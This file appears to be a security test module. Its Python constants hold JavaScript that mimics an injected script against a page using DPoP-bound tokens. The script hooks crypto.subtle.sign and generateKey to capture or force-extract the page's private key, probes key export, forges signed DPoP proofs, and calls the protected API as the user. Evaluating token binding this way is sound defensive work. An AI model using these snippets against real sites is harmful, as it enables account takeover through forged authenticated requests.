"""The scripts an injected script runs against a page whose tokens are bound to its key
(TOKEN_BINDING=dpop): it takes hold of the key the page signs with, tries to read it, and has
it sign proofs of its own.

The key is a CryptoKey in the page's module, which no script can name; but the page hands it
to `crypto.subtle.sign` for every request, and a script that runs in the page can replace
that function first. What it then holds is a handle to sign with, not the key's bytes.
"""

# Wrap crypto.subtle.sign: the page's next signature hands over its key (a CryptoKey), the
# algorithm and what was signed (the proof's header carries the public key). The original
# sign is kept for the script's own proofs.
WRAP_SIGN = """() => {
  const subtle = crypto.subtle;
  const sign = subtle.sign;
  const seen = [];
  subtle.sign = function (algorithm, key, data) {
    seen.push({ algorithm, key, data: new TextDecoder().decode(data) });
    return sign.apply(subtle, arguments);
  };
  Object.defineProperty(window, "__stolenSignings", { value: () => seen });
  Object.defineProperty(window, "__sign", { value: (...args) => sign.apply(subtle, args) });
}"""

# A script that runs before the page's own (an init script: what a compromised script of the
# origin, loaded first, would be) asks for every key the page makes to be extractable.
FORCE_EXTRACTABLE = """(() => {
  const subtle = globalThis.crypto && crypto.subtle;
  if (!subtle) return;
  const generateKey = subtle.generateKey;
  const made = [];
  subtle.generateKey = function (algorithm, _extractable, usages) {
    const keys = generateKey.call(subtle, algorithm, true, usages);
    keys.then((pair) => made.push(pair.privateKey));
    return keys;
  };
  Object.defineProperty(window, "__madeKeys", { value: () => made });
})();"""

# Every way WebCrypto gives a key's bytes out: exportKey in both formats a private key has,
# and wrapKey (its bytes encrypted under a key of the script's own). Each attempt's outcome:
# "exported", "wrapped", or the name of the error it threw.
# The key probed: the one the page's first signature handed over, or with `made`, the first
# the page made under FORCE_EXTRACTABLE.
KEY_PROBE = """async (made) => {
  const keys = made ? window.__madeKeys() : window.__stolenSignings().map((s) => s.key);
  if (keys.length === 0) return null;
  const key = keys[0];
  const attempts = {};
  for (const format of ["pkcs8", "jwk"]) {
    try {
      await crypto.subtle.exportKey(format, key);
      attempts[format] = "exported";
    } catch (error) {
      attempts[format] = error.name;
    }
  }
  try {
    const wrapping = await crypto.subtle.generateKey(
      { name: "AES-GCM", length: 256 }, false, ["wrapKey"]);
    const iv = crypto.getRandomValues(new Uint8Array(12));
    await crypto.subtle.wrapKey("pkcs8", key, wrapping, { name: "AES-GCM", iv });
    attempts.wrapKey = "wrapped";
  } catch (error) {
    attempts.wrapKey = error.name;
  }
  return {
    type: key.type,
    extractable: key.extractable,
    algorithm: `${key.algorithm.name} ${key.algorithm.namedCurve}`,
    usages: key.usages,
    attempts,
  };
}"""

# A proof of the script's own for a request of `method` to `url` beside `token`, signed by
# the page's key: the header the page's proofs carry, fresh claims. null where the page has
# signed nothing since the wrapper was put in.
SIGN_FOR = """async ({ method, url, token }) => {
  const signings = window.__stolenSignings();
  if (signings.length === 0) return null;
  const { algorithm, key, data } = signings[0];
  const bytes = (text) => new TextEncoder().encode(text);
  const base64Url = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer)))
    .replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
  const part = data.split(".")[0].replaceAll("-", "+").replaceAll("_", "/");
  const header = JSON.parse(atob(part));
  const claims = {
    jti: crypto.randomUUID(),
    htm: method,
    htu: url,
    iat: Math.floor(Date.now() / 1000),
    ath: base64Url(await crypto.subtle.digest("SHA-256", bytes(token))),
  };
  const input = `${base64Url(bytes(JSON.stringify(header)))}.` +
    base64Url(bytes(JSON.stringify(claims)));
  const signature = await window.__sign(algorithm, key, bytes(input));
  return `${input}.${base64Url(signature)}`;
}"""

# The API as the user, from the page's origin: the token and a proof.
USE_PROVED = """async ({ authorization, proof }) => {
  const headers = { "X-Requested-With": "XMLHttpRequest", Authorization: authorization };
  if (proof) headers.DPoP = proof;
  const response = await fetch("/protected", { headers });
  return response.status;
}"""
